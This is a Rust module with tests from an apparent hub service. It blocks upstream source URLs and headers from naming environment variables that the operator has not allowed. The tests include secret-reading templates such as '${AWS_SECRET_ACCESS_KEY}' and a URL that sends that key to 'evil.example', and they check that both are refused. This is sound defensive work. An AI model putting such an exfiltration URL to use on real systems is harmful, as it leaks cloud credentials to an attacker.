//! Which variables of the environment a source of an upstream may name.

use std::{
    cell::RefCell,
    collections::BTreeSet,
    sync::{PoisonError, RwLock},
};

use skillwire_client::expand;
use skillwire_host::ServerLabel;
use skillwire_hub::{Upstream, UpstreamSource};
use skillwire_hub_upstreams::InvalidAddress;

/// What the name of a variable begins with that every upstream may use.
const PREFIX: &str = "SKILLWIRE_UPSTREAM_";

/// Which variables of the environment a source may name.
///
/// Trust boundary: an upstream that an administrator adds with a token goes to an address of their choice.
/// Were each variable filled in, that token would read the whole environment of the hub. What the operator
/// wrote into the configuration of this replica may name any variable.
#[derive(Debug)]
pub(super) struct UpstreamVariables {
    /// The variables that the configuration names.
    named: BTreeSet<String>,
    /// The upstreams that the configuration describes.
    configured: RwLock<Vec<Upstream>>,
}

impl UpstreamVariables {
    pub(super) fn new(named: impl IntoIterator<Item = String>, configured: &[Upstream]) -> Self {
        let configured = RwLock::new(configured.to_vec());
        Self { named: named.into_iter().collect(), configured }
    }

    /// Takes the upstreams that the configuration describes now.
    pub(super) fn configure(&self, upstreams: &[Upstream]) {
        *self.configured.write().unwrap_or_else(PoisonError::into_inner) = upstreams.to_vec();
    }

    /// Refuses a source that names a variable which is not for upstreams.
    pub(super) fn require(
        &self,
        label: &ServerLabel,
        source: &UpstreamSource,
    ) -> Result<(), InvalidAddress> {
        // Only the operator of the machine may add a source that runs a program.
        if source.is_local() || self.is_configured(label, source) {
            return Ok(());
        }
        let UpstreamSource::Mcp { url, headers, .. } = source else { return Ok(()) };
        let forbidden = RefCell::new(None);
        for text in headers.values().chain([url]) {
            let note = |name: &str| {
                if !name.starts_with(PREFIX) && !self.named.contains(name) {
                    forbidden.borrow_mut().get_or_insert(name.to_owned());
                }
                Some(String::new())
            };
            // Each variable has a value here, so that filling them in cannot fail.
            let _ = expand(text, note);
        }
        match forbidden.into_inner() {
            None => Ok(()),
            Some(name) => Err(InvalidAddress(format!(
                "the variable `{name}` is not for upstreams; name it in `upstream-variables` of `hub.toml`, or let its name begin with `{PREFIX}`"
            ))),
        }
    }

    /// Whether the configuration describes exactly this source. One that was changed since is not the
    /// operator's any more.
    fn is_configured(&self, label: &ServerLabel, source: &UpstreamSource) -> bool {
        let configured = self.configured.read().unwrap_or_else(PoisonError::into_inner);
        configured.iter().any(|it| it.label.as_str() == label.as_str() && it.source == *source)
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use skillwire_hub::UpstreamMode;

    use super::*;

    fn with(header: &str) -> UpstreamSource {
        UpstreamSource::Mcp {
            url: "https://docs.example/mcp".to_owned(),
            headers: BTreeMap::from([("X-Note".to_owned(), header.to_owned())]),
            older: false,
        }
    }

    #[test]
    fn a_token_of_an_administrator_does_not_read_the_hubs_environment_gw_19() {
        let label = ServerLabel::parse("docs").unwrap();
        let variables = UpstreamVariables::new(["DOCS_TOKEN".to_owned()], &[]);
        for allowed in ["plain", "${DOCS_TOKEN}", "${SKILLWIRE_UPSTREAM_X}", "$${PATH}"] {
            assert!(variables.require(&label, &with(allowed)).is_ok(), "{allowed}");
        }
        for refused in [
            "${AWS_SECRET_ACCESS_KEY}",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "${AWS_SECRET_ACCESS_KEY:-x}",
            "${DOCS_TOKEN} ${AWS_SECRET_ACCESS_KEY}",
        ] {
            let error = variables.require(&label, &with(refused)).unwrap_err();
            assert!(error.to_string().contains("AWS_SECRET_ACCESS_KEY"), "{refused}: {error}");
        }
        let url = "https://evil.example/${AWS_SECRET_ACCESS_KEY}";
        assert!(variables.require(&label, &UpstreamSource::mcp(url)).is_err());
    }

    #[test]
    fn what_the_operator_wrote_may_name_any_variable_until_it_is_changed() {
        let docs = with("${ANY}");
        let upstream =
            Upstream::new("docs".parse().unwrap(), docs.clone(), UpstreamMode::Pin).unwrap();
        let variables = UpstreamVariables::new([], &[upstream]);
        let (label, other) =
            (ServerLabel::parse("docs").unwrap(), ServerLabel::parse("other").unwrap());
        assert!(variables.require(&label, &docs).is_ok());
        assert!(variables.require(&label, &with("${ANY} ${MORE}")).is_err());
        assert!(variables.require(&other, &docs).is_err());
        variables.configure(&[]);
        assert!(variables.require(&label, &docs).is_err());
    }
}
